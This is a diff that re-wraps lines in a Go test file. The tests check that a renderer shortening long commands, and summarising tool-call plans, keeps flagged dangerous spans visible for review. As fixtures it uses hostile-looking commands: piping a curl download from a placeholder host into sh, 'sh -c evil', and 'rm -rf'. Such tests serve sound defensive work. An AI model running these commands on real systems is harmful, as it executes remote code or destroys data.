@@ -15,14 +15,18 @@ import (
 // is shown, and what is not shown is counted exactly.
 func TestShortenKeepsTheDangerousPart(t *testing.T) {
 	t.Parallel()
-	for _, filler := range []string{"a", " ", "\n", "\t", "\r", "é", "世", "\u202e", "\u2066", "\x00", "\x1b[2K", "\xff", "'", "\"", "⟦[cut]⟧", "very long words ", strings.Repeat("-", 100)} {
+	for _, filler := range []string{"a", " ", "\n", "\t", "\r", "é", "世", "\u202e", "\u2066",
+		"\x00", "\x1b[2K", "\xff", "'", "\"", "⟦[cut]⟧", "very long words ",
+		strings.Repeat("-", 100)} {
 		for _, before := range []int{0, 1, 30, 10_000} {
 			for _, after := range []int{0, 1, 30, 10_000} {
 				for _, room := range []int{1, 24, 80, 400} {
 					const danger = "| sh -c evil"
-					head, tail := strings.Repeat(filler, before/len(filler)+1), strings.Repeat(filler, after/len(filler)+1)
+					head, tail := strings.Repeat(filler, before/len(filler)+1),
+						strings.Repeat(filler, after/len(filler)+1)
 					text := head + danger + tail
-					pieces := render.Shorten(text, [][2]int{{len(head), len(head) + len(danger)}}, room)
+					pieces := render.Shorten(text, [][2]int{{len(head), len(head) + len(danger)}},
+						room)
 					shown, cut, found := 0, 0, false
 					for _, p := range pieces {
 						shown += utf8.RuneCountInString(p.Text)
@@ -31,7 +35,8 @@ func TestShortenKeepsTheDangerousPart(t *testing.T) {
 					}
 					name := fmt.Sprintf("%q x %d, %d, room %d", filler, before, after, room)
 					if shown+cut != utf8.RuneCountInString(text) {
-						t.Errorf("%s: %d shown and %d cut of %d", name, shown, cut, utf8.RuneCountInString(text))
+						t.Errorf("%s: %d shown and %d cut of %d", name, shown, cut,
+							utf8.RuneCountInString(text))
 					}
 					if room >= 24 && !found {
 						t.Errorf("%s: it shows %+v", name, pieces)
@@ -52,7 +57,8 @@ func TestShortenKeepsTheEnd(t *testing.T) {
 	text := "curl https://a.test/" + strings.Repeat("x", 500) + " \\\n | sh"
 	for _, spans := range [][][2]int{nil, {{0, len(text)}}} {
 		pieces := render.Shorten(text, spans, 60)
-		if last := pieces[len(pieces)-1].Text; !strings.HasSuffix(last, "| sh") || !strings.HasPrefix(pieces[0].Text, "curl ") {
+		if last := pieces[len(pieces)-1].Text; !strings.HasSuffix(last, "| sh") ||
+			!strings.HasPrefix(pieces[0].Text, "curl ") {
 			t.Errorf("%+v", pieces)
 		}
 	}
@@ -65,7 +71,8 @@ func TestSummary(t *testing.T) {
 	plan := func(reasons []any, calls ...map[string]any) []byte {
 		var list []any
 		for i, args := range calls {
-			list = append(list, map[string]any{"tool_call_id": fmt.Sprint("c", i+1), "args": any(args)})
+			list = append(list, map[string]any{"tool_call_id": fmt.Sprint("c", i+1),
+				"args": any(args)})
 		}
 		b, err := json.Marshal(map[string]any{"tool_calls": list, "reasons": reasons})
 		if err != nil {
@@ -90,13 +97,20 @@ func TestSummary(t *testing.T) {
 		has     string
 		not     string
 	}{
-		"own command":      {plan([]any{map[string]any{"verdict": "ask", "span": []any{in, in + 8}}}, map[string]any{"command": wrapped, "inside": "rm -rf b" + pad}), 1, "rm -rf b", "setup"},
-		"danger around it": {plan([]any{map[string]any{"verdict": "ask", "span": []any{at, at + 5}}}, map[string]any{"command": wrapped, "inside": "rm -rf b" + pad}), 1, "setup", "cleanup"},
-		"several":          {plan(nil, map[string]any{"command": "one" + pad}, map[string]any{"command": "two" + pad}), 2, "two", ""},
-		"no plan":          {[]byte("x"), 0, "", ""},
+		"own command": {plan([]any{map[string]any{"verdict": "ask",
+			"span": []any{in, in + 8}}},
+			map[string]any{"command": wrapped, "inside": "rm -rf b" + pad}), 1, "rm -rf b",
+			"setup"},
+		"danger around it": {plan([]any{map[string]any{"verdict": "ask",
+			"span": []any{at, at + 5}}},
+			map[string]any{"command": wrapped, "inside": "rm -rf b" + pad}), 1, "setup", "cleanup"},
+		"several": {plan(nil, map[string]any{"command": "one" + pad},
+			map[string]any{"command": "two" + pad}), 2, "two", ""},
+		"no plan": {[]byte("x"), 0, "", ""},
 	} {
 		got := render.Summary(c.payload, 80)
-		if text := fmt.Sprint(got); len(got) != c.calls || !strings.Contains(text, c.has) || c.not != "" && strings.Contains(text, c.not) {
+		if text := fmt.Sprint(got); len(got) != c.calls || !strings.Contains(text, c.has) ||
+			c.not != "" && strings.Contains(text, c.not) {
 			t.Errorf("%s: %+v", name, got)
 		}
 	}
